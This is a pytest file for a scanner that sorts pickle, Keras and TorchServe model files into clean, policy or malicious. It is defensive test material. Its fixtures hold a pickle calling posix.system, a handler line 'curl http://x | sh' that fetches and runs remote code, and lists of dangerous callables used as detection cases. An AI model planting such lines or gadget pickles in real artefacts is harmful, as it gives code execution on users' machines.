"""Issue 30: ``malicious`` means evidence. A pickle global outside every allowlist tier
that is not a known-dangerous callable is ``pickle.unknown_global`` (policy); known
gadgets (picklescan's, fickling's and modelaudit's dangerous lists, torch/numpy loaders,
any other standard-library name, attribute walks) stay ``pickle.unsafe_global``
(malicious), and so does what a pickle *does* with an unknown name (calling a call's
result, BUILD on a global). The benign cases are the peers' false alarms named in issue
30 (a real pandas ``Timestamp`` pickle, ``__future__.annotations``, ``torch.OrderedDict``,
a Hugging Face cache snapshot without its ``models--*`` folder). Every pickle is written
here as opcode bytes; nothing is unpickled."""

from __future__ import annotations

import hashlib
import json
import pickle as P
import struct
import zipfile
from pathlib import Path

import pytest
from scanner_helpers import rules

from scanner.api import scan_paths
from scanner.core.allowlist import DANGEROUS, UNKNOWN, classify, classify_dotted
from scanner.core.context import ScanContext
from scanner.core.model import BytesBlob, Finding, Verdict, worst
from scanner.formats.keras import analyze_hdf5, analyze_keras_config
from scanner.formats.pickle.analyze import analyze_pickle


def u(s: str) -> bytes:
    b = s.encode()
    return P.SHORT_BINUNICODE + bytes([len(b)]) + b


def glob(module: str, name: str) -> bytes:
    return P.GLOBAL + f"{module}\n{name}\n".encode()


def scan(data: bytes) -> list[Finding]:
    return analyze_pickle(ScanContext(), BytesBlob("x.pkl", data))


def framed(body: bytes) -> bytes:
    """Protocol 4 with one FRAME around ``body`` (what pickle.dumps writes)."""
    return P.PROTO + b"\x04" + P.FRAME + struct.pack("<Q", len(body)) + body


# -- the benign false alarms of issue 30 ------------------------------------------------

# pandas 2.x Timestamp.__reduce__: (_unpickle_timestamp, (value, freq, tz, creso)) for
# Timestamp("2024-01-01"): value in ns since the epoch, no freq, no tz, NPY_FR_ns (10).
PANDAS_TIMESTAMP = framed(
    P.SHORT_BINUNICODE + b"\x1e" + b"pandas._libs.tslibs.timestamps" + P.MEMOIZE
    + P.SHORT_BINUNICODE + b"\x13" + b"_unpickle_timestamp" + P.MEMOIZE
    + P.STACK_GLOBAL + P.MEMOIZE
    + P.MARK + P.LONG1 + b"\x08" + struct.pack("<q", 1704067200000000000) + P.NONE + P.NONE
    + P.BININT1 + b"\x0a" + P.TUPLE + P.MEMOIZE + P.REDUCE + P.MEMOIZE + P.STOP)

# pickle.dumps(__future__.annotations, protocol=4) on CPython 3.11, byte for byte
FUTURE_ANNOTATIONS = (
    b"\x80\x04\x95b\x00\x00\x00\x00\x00\x00\x00\x8c\n__future__\x94\x8c\x08_Feature\x94"
    b"\x93\x94)\x81\x94}\x94(\x8c\x08optional\x94(K\x03K\x07K\x00\x8c\x04beta\x94K\x01t"
    b"\x94\x8c\tmandatory\x94N\x8c\rcompiler_flag\x94J\x00\x00\x00\x01ub.")


def test_issue30_real_pandas_timestamp_pickle_is_policy_not_malicious() -> None:
    found = scan(PANDAS_TIMESTAMP)
    assert worst(found) is Verdict.POLICY, found
    assert rules(found) == {"format.pickle_not_allowed", "pickle.unknown_global"}
    (unknown,) = [f for f in found if f.rule_id == "pickle.unknown_global"]
    assert "pandas._libs.tslibs.timestamps._unpickle_timestamp" in unknown.evidence


def test_fickling_future_annotations_pickle_is_not_malicious() -> None:
    """fickling allowlists ``__future__`` (its feature records are inert); the dunder
    module name alone made it malicious here."""
    found = scan(FUTURE_ANNOTATIONS)
    assert worst(found) is Verdict.POLICY, found
    assert "pickle.unsafe_global" not in rules(found)


def test_peer_benign_torch_ordereddict_state_dict_is_only_pickle_policy() -> None:
    """``torch.OrderedDict``: collections.OrderedDict under a name some torch builds export."""
    found = scan(P.PROTO + b"\x02" + glob("torch", "OrderedDict") + P.EMPTY_TUPLE + P.REDUCE
                 + P.STOP)
    assert rules(found) == {"format.pickle_not_allowed"}, found


def test_peer_benign_hf_cache_snapshot_without_models_folder_name(tmp_path: Path) -> None:
    """A cache repository copied as ``mymodel/{blobs,refs,snapshots}``: scanned from the
    repository, from ``snapshots`` and from one revision, it is the layout (links into
    its own ``blobs/``), and the blob content is still judged through the link."""
    repo = tmp_path / "mymodel"
    rev = "0123456789abcdef0123456789abcdef01234567"
    (repo / "refs").mkdir(parents=True)
    (repo / "refs" / "main").write_text(rev)
    (repo / "snapshots" / rev).mkdir(parents=True)
    (repo / "blobs").mkdir()

    def add(rel: str, data: bytes) -> None:
        digest = hashlib.sha256(data).hexdigest()
        (repo / "blobs" / digest).write_bytes(data)
        (repo / "snapshots" / rev / rel).symlink_to(f"../../blobs/{digest}")

    add("config.json", b'{"model_type": "llama", "hidden_size": 8}\n')
    for level in (repo, repo / "snapshots", repo / "snapshots" / rev):
        (result,) = scan_paths([level]).targets
        assert result.verdict is Verdict.CLEAN, (level, result.findings)
    add("pytorch_model.bin", b"\x80\x02cposix\nsystem\nX\x04\x00\x00\x00true\x85R.")
    (result,) = scan_paths([repo / "snapshots" / rev]).targets
    assert result.verdict is Verdict.MALICIOUS
    assert "pickle.unsafe_global" in {f.rule_id for f in result.findings}


def test_links_beside_a_blobs_link_are_not_the_layout(tmp_path: Path) -> None:
    """The shape needs real directories: ``blobs`` as a link to elsewhere is no cache."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "x").write_text("{}")
    repo = tmp_path / "repo"
    (repo / "snapshots" / "r").mkdir(parents=True)
    (repo / "blobs").symlink_to(elsewhere)
    (repo / "snapshots" / "r" / "config.json").symlink_to("../../blobs/x")
    (result,) = scan_paths([repo / "snapshots" / "r"]).targets
    assert result.verdict is not None and result.verdict > Verdict.CLEAN
    assert any(f.rule_id.startswith("fs.symlink") for f in result.findings), result.findings


def _keras(layer: dict[str, object]) -> tuple[set[str], Verdict, Verdict]:
    """(keras.* rule ids of the v3 config, worst of the v3 config, worst of the .h5)."""
    data = json.dumps({"module": "keras", "class_name": "Functional",
                       "config": {"layers": [layer]}}).encode()
    found = analyze_keras_config(ScanContext(), "m.keras!config.json", data)
    h5 = analyze_hdf5(ScanContext(), BytesBlob("m.h5", b"\x89HDF\r\n\x1a\n" + bytes(512)
                                               + data + bytes(64)))
    return {f.rule_id for f in found if f.rule_id.startswith("keras.")}, worst(found), worst(h5)


def test_peer_benign_keras_custom_layer_module_is_policy() -> None:
    """A custom layer registered in the user's own module (Keras "Making new layers"
    guide: ``@register_keras_serializable(package="MyLayers")``) imports that module:
    refused, but no evidence."""
    layer = {"module": "my_layers", "class_name": "MyDense", "registered_name":
             "MyLayers>MyDense", "config": {"units": 4, "name": "my_dense"}}
    assert _keras(layer) == ({"keras.custom_object"}, Verdict.POLICY, Verdict.POLICY)


@pytest.mark.parametrize("module,cls", [
    ("os", "system"), ("subprocess", "Popen"), ("builtins", "eval"), ("my_layers", "run"),
    ("tensorflow", "py_function"), ("my_layers.__init__", "X"), ("bad module", "X"),
])
def test_keras_objects_with_evidence_stay_malicious(module: str, cls: str) -> None:
    ids, v3, h5 = _keras({"module": module, "class_name": cls, "config": {}})
    assert ids == {"keras.unsafe_object"} and v3 is h5 is Verdict.MALICIOUS


def _mar(tmp_path: Path, handler: str) -> Path:
    """A TorchServe model archive as ``torch-model-archiver --handler handler.py`` writes
    it (TorchServe "Custom handlers" guide): manifest, handler module, extra file."""
    manifest = {"createdOn": "01/01/2026 00:00:00", "runtime": "python",
                "model": {"modelName": "tiny", "serializedFile": "model.safetensors",
                          "handler": "handler.py", "modelVersion": "1.0"},
                "archiverVersion": "0.12.0"}
    mar = tmp_path / "tiny.mar"
    with zipfile.ZipFile(mar, "w") as z:
        z.writestr("MAR-INF/MANIFEST.json", json.dumps(manifest, indent=2))
        z.writestr("handler.py", handler)
        z.writestr("index_to_name.json", json.dumps({"0": "cat", "1": "dog"}))
    return mar


TS_HANDLER = '''"""Custom TorchServe handler."""
import json

import torch
from ts.torch_handler.base_handler import BaseHandler


class TinyHandler(BaseHandler):
    def preprocess(self, data):
        rows = [json.loads(item.get("body") or item.get("data")) for item in data]
        return torch.tensor(rows, dtype=torch.float32)

    def postprocess(self, output):
        return output.argmax(dim=1).tolist()
'''


def test_peer_benign_torchserve_mar_with_custom_handler_is_policy(tmp_path: Path) -> None:
    (result,) = scan_paths([_mar(tmp_path, TS_HANDLER)]).targets
    assert result.verdict is Verdict.POLICY, result.findings
    assert "config.code_reference_shipped" in {f.rule_id for f in result.findings}


def test_torchserve_handler_that_runs_commands_stays_malicious(tmp_path: Path) -> None:
    evil = TS_HANDLER + "\nimport os\nos.system('curl http://x | sh')\n"
    (result,) = scan_paths([_mar(tmp_path, evil)]).targets
    assert result.verdict is Verdict.MALICIOUS, result.findings
    assert any(f.path.endswith("handler.py") and f.verdict is Verdict.MALICIOUS
               for f in result.findings)


# -- what stays malicious ---------------------------------------------------------------

@pytest.mark.parametrize("module,name", [
    ("builtins", "getattr"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("importlib", "import_module"), ("runpy", "_run_module_code"), ("subprocess", "Popen"),
    ("socket", "create_connection"), ("shutil", "rmtree"), ("ctypes", "CDLL"),
    ("pickle", "loads"), ("_pickle", "loads"), ("marshal", "loads"), ("types", "CodeType"),
    ("types", "FunctionType"), ("functools", "partial"), ("functools", "reduce"),
    ("torch", "load"), ("torch.serialization", "load"), ("torch.hub", "load"),
    ("torch.storage", "_load_from_bytes"), ("numpy", "load"), ("numpy.lib.npyio", "load"),
    ("numpy.testing._private.utils", "runstring"), ("joblib", "load"), ("dill", "loads"),
    ("dill._dill", "_create_function"), ("cloudpickle.cloudpickle", "subimport"),
    ("uuid", "_popen"), ("multiprocessing.util", "spawnv_passfds"),
    ("torch.utils.collect_env", "run"), ("mlflow.projects.backend.local", "_run_entry_point"),
    ("pandas", "read_csv"), ("pandas", "read_pickle"), ("pandas.io.pickle", "read_pickle"),
    ("yaml", "unsafe_load"), ("huggingface_hub", "hf_hub_download"),
    ("transformers.dynamic_module_utils", "get_class_from_dynamic_module"),
    ("somepkg.tools", "system"), ("somepkg.tools", "run"), ("somepkg", "eval"),
    ("__main__", "Model"), ("Collections", "OrderedDict"), ("OS", "getcwd"),
    ("torch.nn.modules.module", "register_module_forward_hook"), ("numpy", "size"),
    ("webbrowser", "open"), ("pty", "spawn"), ("bdb", "Bdb"), ("timeit", "timeit"),
    ("venv", "create"), ("code", "InteractiveInterpreter"), ("zipfile", "os.system"),
    ("torch.utils.tensorboard.writer", "SummaryWriter"), ("keras.models", "load_model"),
    ("ldm.util", "instantiate_from_config"), ("werkzeug.utils", "import_string"),
    ("lightning.pytorch.cli", "LightningCLI"), ("jsonargparse", "ArgumentParser"),
])
def test_known_dangerous_callables_stay_malicious(module: str, name: str) -> None:
    assert classify(module, name).tier == DANGEROUS
    found = scan(P.PROTO + b"\x04" + u(module) + u(name) + P.STACK_GLOBAL + P.STOP)
    assert f"{module}.{name}" in {f.evidence for f in found
                                  if f.rule_id == "pickle.unsafe_global"}, found
    assert worst(found) is Verdict.MALICIOUS


@pytest.mark.parametrize("module,name", [
    ("pandas._libs.tslibs.timestamps", "_unpickle_timestamp"),
    ("pandas.core.frame", "DataFrame"), ("pandas._libs.arrays", "__pyx_unpickle_NDArrayBacked"),
    ("mypackage.models", "Net"), ("omegaconf.dictconfig", "DictConfig"),
    ("torch.optim.adam", "Adam"),
])
def test_unknown_names_are_policy(module: str, name: str) -> None:
    assert classify(module, name).tier == UNKNOWN
    found = scan(P.PROTO + b"\x04" + u(module) + u(name) + P.STACK_GLOBAL + P.STOP)
    assert worst(found) is Verdict.POLICY, found
    assert "pickle.unknown_global" in rules(found)


def test_calling_what_an_unknown_call_returned_stays_malicious() -> None:
    """``pkg.factory()()``: the name is unknown, calling its result is the evidence."""
    found = scan(P.PROTO + b"\x02" + glob("pkg.helpers", "Factory") + P.EMPTY_TUPLE + P.REDUCE
                 + P.EMPTY_TUPLE + P.REDUCE + P.STOP)
    assert "pickle.unsafe_call" in rules(found) and worst(found) is Verdict.MALICIOUS


def test_build_on_an_unknown_global_stays_malicious() -> None:
    found = scan(P.PROTO + b"\x02" + glob("pkg.settings", "Config") + P.EMPTY_DICT
                 + u("x") + P.NONE + P.SETITEM + P.BUILD + P.STOP)
    assert worst(found) is Verdict.MALICIOUS, found


def test_many_unknown_globals_do_not_hide_a_gadget() -> None:
    """Unknown names are one finding per stream: they cannot use up the per-stream
    finding budget before ``os.system``."""
    body = b"".join(glob(f"pkg{i}.mod", "Thing") + P.POP for i in range(200))
    found = scan(P.PROTO + b"\x02" + body + glob("os", "system") + P.STOP)
    assert "os.system" in {f.evidence for f in found if f.rule_id == "pickle.unsafe_global"}
    assert sum(f.rule_id == "pickle.unknown_global" for f in found) == 1


@pytest.mark.parametrize("target,tier", [
    ("torch.optim.Adam", UNKNOWN), ("my_project.models.Net", UNKNOWN),
    ("collections.OrderedDict", "data"), ("torch.nn.modules.linear.Linear", "framework"),
    ("os.system", DANGEROUS), ("os.path.join", DANGEROUS), ("builtins.exec", DANGEROUS),
    ("subprocess.run", DANGEROUS), ("hydra.utils.instantiate", DANGEROUS),
    ("my_project.utils.run", DANGEROUS), ("my_project.Net.__init__", DANGEROUS),
    ("torch.load", DANGEROUS), ("nemo.core.Model", UNKNOWN), ("os", DANGEROUS),
    ("", DANGEROUS), ("a..b", DANGEROUS), ("functools.partial", DANGEROUS),
    ("nemo.collections.asr.runpy._run_code", DANGEROUS), ("logging.os.system", DANGEROUS),
    ("pkg.mod.ctypes.CDLL", DANGEROUS), ("pkg.os.path.join", DANGEROUS),
    ("nemo.lightning.io.pl.MegatronCheckpointIO", UNKNOWN),
])
def test_classify_dotted_for_config_targets(target: str, tier: str) -> None:
    """``_target_`` callables (Hydra/OmegaConf) share the pickle tiers."""
    assert classify_dotted(target).tier == tier, classify_dotted(target)
